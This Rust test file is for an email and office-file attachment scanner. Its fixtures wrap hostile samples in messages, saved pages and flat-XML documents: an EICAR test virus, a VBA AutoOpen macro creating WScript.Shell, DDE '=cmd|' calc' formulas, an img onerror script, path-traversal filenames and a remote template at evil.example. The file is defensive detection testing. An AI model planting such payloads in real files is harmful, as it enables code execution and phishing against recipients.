//! Files that are written as letters: in messages, in saved pages, in office files that are one piece of XML.

use chatward_attach::{Inspector, Kind, Limits, Sent, Why};

use crate::made;
use crate::{has, innocent, looked, texts, whys};

#[test]
fn an_innocent_message_is_read_to_its_end() {
    let picture = made::base64(&made::picture());
    let head = "Content-Type: image/png; name=\"logo.png\"\r\nContent-Transfer-Encoding: base64";
    let bytes = made::mail(head, &picture);
    let verdict = innocent("a.eml", &bytes);
    assert_eq!(verdict.kind(), Kind::Mail);
    assert_eq!(texts(&verdict), "a@shop.example\nYour invoice\nHello there");
    let paths: Vec<&str> = verdict.inside.iter().map(|file| file.path.expose()).collect();
    assert_eq!(paths, ["a.eml", "a.eml/part", "a.eml/logo.png"]);
    let plain = innocent("a.eml", &made::mail("Content-Type: text/plain", "a file\r\nas it is"));
    assert_eq!(plain.inside[2].hashes, chatward_attach::Hashes::of(b"a file\r\nas it is"));
    for (name, media_type) in [("a", Some("message/rfc822")), ("a.txt", None), ("", None), ("a.mht", None)] {
        let verdict = Inspector::default().inspect(&Sent { name, media_type, bytes: &bytes }, &|_| None);
        assert!(verdict.signs.is_empty() && verdict.not_looked.is_empty(), "{name}");
    }
    innocent("b.eml", b"From: a@a.example\r\nSubject: hi\r\n\r\nOnly words: none of them bad.\r\n");
    innocent("c.txt", b"Note: a text\nthat begins like a message\n\nand is none");
    let page = "<html><body><p>Hello</p><img src=\"https://shop.example/a.png\"></body></html>";
    innocent("d.eml", &made::mail("Content-Type: text/html", page));
}

#[test]
fn a_file_in_a_message_is_looked_into() {
    let (eicar, program) = (made::eicar(), made::program());
    let coded = made::base64(&eicar);
    let quoted: String = eicar.iter().map(|byte| format!("={byte:02X}=\r\n")).collect();
    let inner = String::from_utf8(made::mail("Content-Transfer-Encoding: base64", &coded)).unwrap();
    let nested = format!(
        "Content-Type: multipart/alternative; boundary=in\r\n\r\n--in\r\nContent-Transfer-Encoding: BASE64\r\n\r\n{coded}"
    );
    for (head, content) in [
        ("Content-Transfer-Encoding: base64", coded.as_str()),
        ("Content-Type: application/octet-stream\r\ncontent-transfer-encoding :\tBase64 (x)", &coded),
        ("Content-Transfer-Encoding: quoted-printable", &quoted),
        ("Content-Transfer-Encoding: 8bit", std::str::from_utf8(&eicar).unwrap()),
        ("Content-Transfer-Encoding: base64", &made::base64(&made::zip(&[("a", &eicar)]))),
        ("Content-Type: message/rfc822", &inner),
        (
            "Content-Type: message/rfc822\r\nContent-Transfer-Encoding: base64",
            &made::base64(inner.as_bytes()),
        ),
        ("an odd line\r\nContent-Transfer-Encoding: base64", &coded),
        (nested.split_once("\r\n\r\n").unwrap().0, nested.split_once("\r\n\r\n").unwrap().1),
    ] {
        let bytes = made::mail(head, content);
        for name in ["mail.eml", "page.mht", "report.doc", "report", "report.txt"] {
            has(name, &bytes, "file.test-virus");
        }
    }
    has("report.doc", &made::mail("Content-Transfer-Encoding: base64", &coded), "file.active-mismatch");
    // Behind a head that the name alone makes one, in a box, behind blanks.
    let head = format!("Content-Transfer-Encoding: base64\r\n\r\n{coded}");
    has("a.eml", head.as_bytes(), "file.test-virus");
    has("a.eml", format!("\r\n\r\n{head}").as_bytes(), "file.test-virus");
    let mailbox = format!("From a b\nSubject: x\n\nwords\nFrom a b\n{head}");
    has("a.mbox", mailbox.as_bytes(), "file.test-virus");
    let page = "<html><form><input type=password></form></html>";
    has("a.eml", &made::mail("Content-Type: text/html", page), "file.page-asks");
    has("a.eml", &made::mail("Content-Transfer-Encoding: base64", &made::base64(&program)), "file.program");
}

#[test]
fn files_in_messages_are_held_against_their_names() {
    for head in [
        "Content-Disposition: attachment; filename=run.vbs",
        "Content-Type: application/octet-stream; name=\"run.vbs\"",
        "Content-Disposition: attachment; filename*=utf-8''run%2Evbs",
        "Content-Disposition: attachment; filename*0=\"run\";\r\n filename*1=\".vbs\"",
        "Content-Disposition: attachment; filename=\"=?utf-8?B?cnVuLnZicw==?=\"",
        "Content-Disposition: attachment; filename=a.txt\r\nContent-Type: text/plain; name=run.vbs",
        "Content-Location: https://a.example/x/run.vbs?a=b",
    ] {
        has("a.eml", &made::mail(head, "words = 1"), "file.script");
    }
    has(
        "a.eml",
        &made::mail("Content-Disposition: attachment; filename=\"../../a\"", "x"),
        "file.name-outside",
    );
    let program = made::base64(&made::program());
    let head = "Content-Type: image/png\r\nContent-Transfer-Encoding: base64";
    has("a.eml", &made::mail(head, &program), "file.disguised-program");
}

#[test]
fn messages_that_readers_take_apart_differently_are_told() {
    let twice = made::mail("Content-Transfer-Encoding: 7bit\r\nContent-Transfer-Encoding: base64", "eA==");
    assert!(whys(&has("a.eml", &twice, "file.lying-headers")).contains(&Why::Broken));
    assert_eq!(
        whys(&looked("a.eml", &made::mail("Content-Transfer-Encoding: x-uuencode", "x"))),
        [Why::Unsupported]
    );
    assert_eq!(whys(&looked("a.eml", b"Content-Type: multipart/mixed\r\n\r\nwords")), [Why::Broken]);
    let locked = b"Content-Type: multipart/encrypted; boundary=a\r\n\r\n--a\r\n\r\nwords";
    assert_eq!(whys(&has("a.eml", locked, "file.encrypted")), [Why::Encrypted]);
}

#[test]
fn a_line_of_a_message_hides_no_other_kind() {
    has("a.csv", b"MIME-Version: 1.0\nAnna,\"=cmd|' /C calc'!A0\"\n", "file.dde");
    has("a.md", b"MIME-Version: 1.0\n<img src=x onerror=go()>\n", "file.page-script");
    has("a.html", b"MIME-Version: 1.0\n<img src=x onerror=go()>\n", "file.page-script");
    has("a.url", b"[InternetShortcut]\nMIME-Version: 1.0\nURL=file://server/a\n", "file.remote-shortcut");
    let flat = "<?xml version=\"1.0\"?><!--\nMIME-Version: 1.0\n--><a><binData>";
    has(
        "a.xml",
        format!("{flat}{}</binData></a>", made::base64(&made::program())).as_bytes(),
        "file.program",
    );
    assert!(texts(&innocent("a.txt", b"MIME-Version: 1.0\nwords")).contains("MIME-Version: 1.0\nwords"));
}

#[test]
fn messages_in_messages_end_somewhere() {
    let mut parts = String::from("words");
    for n in 0..40 {
        parts =
            format!("Content-Type: multipart/mixed; boundary=b{n}\r\n\r\n--b{n}\r\n{parts}\r\n--b{n}--\r\n");
    }
    assert!(whys(&has("a.eml", parts.as_bytes(), "file.too-deep")).contains(&Why::TooDeep));
    let few = Limits { entries: 10, ..Limits::default() };
    let many = format!("Content-Type: multipart/mixed; boundary=b\r\n\r\n{}", "--b\r\n\r\nx\r\n".repeat(100));
    let verdict = crate::looked_within(&few, "a.eml", many.as_bytes());
    assert!(whys(&verdict).contains(&Why::TooMany) && verdict.inside.len() <= 11);
    // One line that holds very many boundaries comes to its end in time.
    let dashes = format!("Content-Type: multipart/mixed; boundary=-\r\n\r\n{}", "-".repeat(4 << 20));
    let start = std::time::Instant::now();
    looked("a.eml", dashes.as_bytes());
    assert!(start.elapsed().as_secs() < 20);
    let little = Limits { entry: 100, ..Limits::default() };
    let large = made::mail("Content-Transfer-Encoding: base64", &made::base64(&[0; 200]));
    assert!(whys(&crate::looked_within(&little, "a.eml", &large)).contains(&Why::TooLarge));
}

const ACTS: &str = "Sub AutoOpen()\r\nCreateObject(\"WScript.Shell\")\r\nEnd Sub";

#[test]
fn macros_in_a_saved_page_are_told() {
    let macros = made::base64(&made::active_mime(&made::project(ACTS)));
    let head = "Content-Location: file:///C:/x/editdata.mso\r\nContent-Type: application/x-mso\r\nContent-Transfer-Encoding: base64";
    let bytes = made::mail(head, &macros);
    for name in ["invoice.doc", "invoice.mht"] {
        has(name, &bytes, "file.macro-acts");
    }
    assert_eq!(whys(&looked("a.mso", b"ActiveMime\0\0 and nothing")), [Why::Broken]);
}

#[test]
fn office_files_in_one_piece_of_xml_are_looked_into() {
    let project = made::project(ACTS);
    let word = |data: &str| {
        format!(
            "<?xml version=\"1.0\"?><?mso-application progid=\"Word.Document\"?><w:wordDocument xmlns:w=\"http://schemas.microsoft.com/office/word/2003/wordml\">\
             <w:docSuppData><w:binData w:name=\"editdata.mso\">{data}</w:binData></w:docSuppData><w:p><w:t>x</w:t></w:p></w:wordDocument>"
        )
    };
    let package = |name: &str, data: &str| {
        format!(
            "<?xml version=\"1.0\"?><p:package xmlns:p=\"http://schemas.microsoft.com/office/2006/xmlPackage\">\
             <p:part p:name=\"/word/{name}\"><p:binaryData>\r\n{data}</p:binaryData></p:part></p:package>"
        )
    };
    let macros = made::base64(&made::active_mime(&project));
    for name in ["report.xml", "report.doc", "report"] {
        has(name, word(&macros).as_bytes(), "file.macro-acts");
        has(name, package("vbaProject.bin", &made::base64(&project)).as_bytes(), "file.macro-acts");
        has(name, package("a/run.exe", &made::base64(&made::program())).as_bytes(), "file.program");
    }
    // In another alphabet.
    let wide: Vec<u8> =
        [0xfeff_u16].into_iter().chain(word(&macros).encode_utf16()).flat_map(u16::to_le_bytes).collect();
    has("report.xml", &wide, "file.macro-acts");
    let verdict = has("a.xml", package("run.vbs", &made::base64(b"words = 1")).as_bytes(), "file.script");
    assert!(verdict.inside.iter().any(|file| file.path.expose() == "a.xml/word/run.vbs"));
    has("a.xml", package("a", &made::base64(&made::eicar())).as_bytes(), "file.test-virus");
    let says = word("").replace("<w:wordDocument", "<w:wordDocument w:macrosPresent=\"yes\"");
    has("a.xml", says.as_bytes(), "file.macro");
    let relation =
        String::from_utf8(made::relation("attachedTemplate", "http://evil.example/t.dotm")).unwrap();
    let fetches = format!(
        "<p:package><p:part p:name=\"/_rels/.rels\"><p:xmlData>{relation}</p:xmlData></p:part></p:package>"
    );
    has("a.xml", fetches.as_bytes(), "file.remote-template");
    let dde = "<Workbook xmlns=\"urn:schemas-microsoft-com:office:spreadsheet\"><Cell Formula=\"=cmd|'/c calc'!A0\"/></Workbook>";
    has("a.xml", dde.as_bytes(), "file.dde");
    let open = "<?xml version=\"1.0\"?><office:document xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\">\
                <l:library-embedded><m:source-code>Sub Main</m:source-code></l:library-embedded><s:event-listener/></office:document>";
    has("a.fodt", open.as_bytes(), "file.macro-runs");
    innocent("a.xml", b"<?xml version=\"1.0\"?><order><item>1</item></order>");
    innocent("b.xml", word("").as_bytes());
}
